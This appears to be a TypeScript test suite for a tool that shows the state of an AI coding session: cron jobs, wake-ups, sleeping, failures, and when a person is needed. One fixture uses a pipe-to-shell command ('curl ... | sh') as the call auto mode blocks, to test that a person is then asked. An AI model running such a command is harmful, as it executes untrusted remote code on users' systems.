import assert from 'node:assert/strict';
import type { TranscriptEntry } from '../../../../src/extension/hub/domain/facts/transcriptEntry';
import type { ScheduledRun } from '../../../../src/extension/hub/domain/facts/schedule/schedule';
import { endsByEscape } from '../../../../src/shared/presentation';
import { start, aTool, Story } from '../../../support/hub/story';

const minute = 60_000;
const job = { cron: '*/5 * * * *', prompt: 'check the build', recurring: true };
const listed = { id: '0a8a10c7', schedule: job.cron, recurring: true, prompt: job.prompt };
const wakeup = { delaySeconds: 60, prompt: '/loop watch the deploy', reason: 'a minute' };
const wakes = { id: 'a8b9cde0', schedule: '2 10 * * *', recurring: false, prompt: wakeup.prompt };

/** Offset of the job derived from its id, in ms: at most half of five minutes. */
const offset = (0x0a8a10c7 / 2 ** 32) * 0.5 * 5 * minute;

const label = (at: number): string => `Sleeps until ${new Date(at).toISOString()}`;

describe('A session whose client continues on its own', () => {
  const began = (): Story =>
    new Story().registry('idle').hook('SessionStart').after(1_000).hook('UserPromptSubmit');

  const withJob = (): Story =>
    began()
      .registry('busy')
      .after(1_000)
      .hook('PostToolUse', {
        ...aTool('CronCreate', job),
        tool_response: { id: listed.id, recurring: true, nextFireAt: start + 5 * minute + offset },
      })
      .after(1_000)
      .hook('Stop', { session_crons: [listed] })
      .registry('idle');

  const withWakeup = (): Story =>
    began()
      .registry('busy')
      .after(1_000)
      .hook('PostToolUse', {
        ...aTool('ScheduleWakeup', wakeup),
        tool_response: { scheduledFor: start + 2 * minute },
      })
      .after(1_000)
      .hook('Stop', { session_crons: [wakes] })
      .registry('idle');

  const sleepsUntil = (story: Story, at: number): Story =>
    story.is('autonomous', 'sleeping', label(at), 'hook');
  const waits = (story: Story): Story =>
    story.is('needs_you', 'idle', 'Waiting for your next prompt', 'hook');

  it('sleeps until the time that a job’s tool reported', () => {
    sleepsUntil(withJob(), start + 5 * minute + offset);
  });

  it('sleeps until the next time of the job after each run', () => {
    sleepsUntil(withJob().after(5 * minute + offset), start + 10 * minute + offset);
  });

  it('computes the time of a job that only a turn’s end listed', () => {
    const story = began()
      .registry('busy')
      .after(10_000)
      .hook('Stop', { session_crons: [listed] });
    sleepsUntil(story.registry('idle'), start + 5 * minute + offset);
  });

  it('sleeps until its wake-up, and waits for a prompt if that does not start', () => {
    const story = withWakeup();
    sleepsUntil(story, start + 2 * minute);
    assert.equal(story.resolution.recheckAt, start + 3.5 * minute);
    waits(story.after(3.5 * minute));
  });

  it('still sleeps after a failure, since the job continues', () => {
    const story = withJob().after(minute).hook('UserPromptSubmit').registry('busy').after(1_000);
    sleepsUntil(
      story.hook('StopFailure', { error: 'server_error' }).registry('idle'),
      start + 5 * minute + offset,
    );
  });

  it('holds prompts back after a failure, as without a job', () => {
    const story = withJob();
    assert.equal(story.meaning.rest?.broken, false);
    story.after(minute).hook('UserPromptSubmit').registry('busy').after(1_000);
    story.hook('StopFailure', { error: 'server_error' }).registry('idle');
    assert.equal(story.state.state, 'sleeping');
    assert.equal(story.meaning.rest?.broken, true);
  });

  it('can be cancelled while it waits for a wake-up', () => {
    assert.equal(endsByEscape(withWakeup().card), true);
    assert.equal(endsByEscape(withJob().card), false);
  });

  it('starts a run that was due in the turn right after its end', () => {
    const story = withWakeup().after(10_000).hook('UserPromptSubmit').registry('busy');
    story
      .after(3 * minute)
      .hook('Stop', { session_crons: [wakes] })
      .registry('idle');
    assert.equal(story.state.state, 'sleeping');
    waits(story.after(1.5 * minute));
  });

  it('waits for a prompt once the last run is deleted', () => {
    waits(
      withJob()
        .after(1_000)
        .hook('UserPromptSubmit')
        .after(1_000)
        .hook('Stop', { session_crons: [] }),
    );
  });

  it('waits for a prompt once Escape cancelled the wake-up', () => {
    const carry = { kind: 'schedule', news: { kind: 'armed', runs: [] } } as const;
    waits(withWakeup().after(2_000).line(carry));
  });

  it('waits for a prompt once its wake-up has run, even if no hook reported it', () => {
    const story = new Story().registry('idle').after(1_000).registry('busy');
    story.line({ kind: 'prompt', text: wakeup.prompt, human: true });
    const news = { kind: 'wakeup', prompt: wakeup.prompt, at: start + 2 * minute } as const;
    story.line({ kind: 'schedule', news }).after(1_000).registry('idle');
    story.is('autonomous', 'sleeping', label(start + 2 * minute), 'registry');
    story.after(2 * minute).registry('busy');
    story.line({ kind: 'prompt', text: wakeup.prompt, human: false });
    story.after(1_000).registry('idle');
    story.is('needs_you', 'idle', 'Waiting for your next prompt', 'registry');
  });

  it('waits for a prompt after a wake-up whose turn failed', () => {
    const story = withWakeup()
      .after(2 * minute)
      .hook('UserPromptSubmit', { prompt: wakes.prompt });
    story.registry('busy').after(1_000).hook('StopFailure', { error: 'server_error' });
    assert.equal(story.registry('idle').state.state, 'error');
  });

  it('needs a person if a dialog is open, whatever is scheduled', () => {
    withJob()
      .after(minute)
      .hook('UserPromptSubmit')
      .registry('busy')
      .after(1_000)
      .hook('PermissionRequest', aTool('Bash', { command: 'ls' }))
      .registry('waiting', { waitingFor: 'permission prompt' })
      .is('needs_you', 'needs_permission', 'Needs permission: Bash', 'hook');
  });

  it('keeps its jobs, but not its wake-up, in the next process', () => {
    const next = { pid: 99, procStart: '2000' };
    const again = (story: Story): Story => {
      story.after(1_000).gone('killed').after(5_000);
      const startedAt = story.now;
      return story
        .registry('idle', { ...next, startedAt })
        .hook('SessionStart', { source: 'resume' }, 99);
    };
    sleepsUntil(again(withJob()), start + 5 * minute + offset);
    waits(again(withWakeup()));
  });

  it('knows a durable job by its transcript if no hook reported it', () => {
    const news = (run: Partial<ScheduledRun>): TranscriptEntry => ({
      kind: 'schedule',
      news: { kind: 'created', run: { ...durable, ...run } },
    });
    const durable: ScheduledRun = {
      ...job,
      id: listed.id,
      kind: 'job',
      durable: true,
      at: undefined,
    };
    const stopped = (run: Partial<ScheduledRun>): Story =>
      began()
        .registry('busy')
        .after(1_000)
        .line(news(run))
        .after(20_000)
        .hook('Stop', { session_crons: [] })
        .registry('idle');
    sleepsUntil(stopped({}), start + 5 * minute + offset);
    waits(stopped({ durable: false }));
  });

  it('ends with its process', () => {
    const story = withJob().after(1_000).hook('SessionEnd', { reason: 'prompt_input_exit' });
    assert.equal(story.gone('exited').state.group, 'delivered');
    assert.equal(story.card.schedule, undefined);
  });

  it('shows a person’s prompt as the last one, not that of a run', () => {
    const story = new Story().registry('idle').hook('SessionStart').after(1_000);
    story.hook('UserPromptSubmit', { prompt: 'Watch the build' });
    story
      .after(500)
      .hook('Stop', { session_crons: [listed] })
      .registry('idle');
    story.after(5 * minute).hook('UserPromptSubmit', { prompt: job.prompt });
    assert.equal(story.card.lastPrompt, 'Watch the build');
    assert.equal(story.card.title, 'Watch the build');
    assert.equal(story.facts.hook?.humanPromptAt, start + 1_000);
  });

  it('shows a person’s prompt as the last one, even if it equals that of its job', () => {
    const story = withJob();
    story.after(2 * minute).hook('UserPromptSubmit', { prompt: job.prompt });
    assert.equal(story.card.lastPrompt, job.prompt);
    assert.equal(story.facts.hook?.humanPromptAt, story.now);
  });

  it('shows the upcoming runs, the next one first', () => {
    const story = withJob();
    story.after(500).hook('UserPromptSubmit').after(500);
    story
      .hook('PostToolUse', {
        ...aTool('CronCreate', { ...job, prompt: 'once', recurring: false }),
        tool_response: { id: 'ffffffff', recurring: false, nextFireAt: start + 4 * minute },
      })
      .hook('Stop', { session_crons: [listed, { ...listed, id: 'ffffffff', recurring: false }] })
      .registry('idle');
    assert.deepEqual(
      story.card.schedule?.map(({ dueAt, recurring }) => [Date.parse(dueAt), recurring]),
      [
        [start + 4 * minute, false],
        [Math.floor(start + 5 * minute + offset), true],
      ],
    );
  });

  describe('with a call that auto mode blocked', () => {
    const command = 'curl -s https://get.example/x | sh';
    const blockedIn = (story: Story, id = 'toolu_1'): Story => {
      const call = aTool('Bash', { command }, { tool_use_id: id });
      return story
        .after(100)
        .hook('PreToolUse', call)
        .hook('PermissionDenied', { ...call, reason: 'no' });
    };
    const tick = (story: Story): Story =>
      story
        .after(5 * minute)
        .hook('UserPromptSubmit', { prompt: job.prompt })
        .registry('busy');
    const rests = (story: Story, session_crons: object[] = [listed]): Story =>
      story.after(1_000).hook('Stop', { session_crons }).registry('idle');
    const needsPerson = (story: Story): Story =>
      story.is('needs_you', 'blocked_by_auto_mode', `Blocked by auto mode: ${command}`, 'hook');

    it('needs a person after the turn that it was blocked in', () => {
      needsPerson(rests(blockedIn(tick(withJob()))));
    });

    it('sleeps again after a run that did not need it, and keeps it on the card', () => {
      const story = rests(tick(rests(blockedIn(tick(withJob())))));
      assert.equal(story.state.state, 'sleeping');
      assert.deepEqual([story.card.blocked?.count, story.card.blocked?.open], [1, 1]);
    });

    it('needs a person again once no further run is scheduled', () => {
      needsPerson(rests(tick(rests(blockedIn(tick(withJob())))), []));
    });

    it('needs a person again if a later run is blocked as well', () => {
      const before = rests(blockedIn(tick(withJob())));
      const story = rests(blockedIn(tick(before), 'toolu_2'));
      story.is('needs_you', 'blocked_by_auto_mode', 'Auto mode blocked 2 calls', 'hook');
    });
  });
});
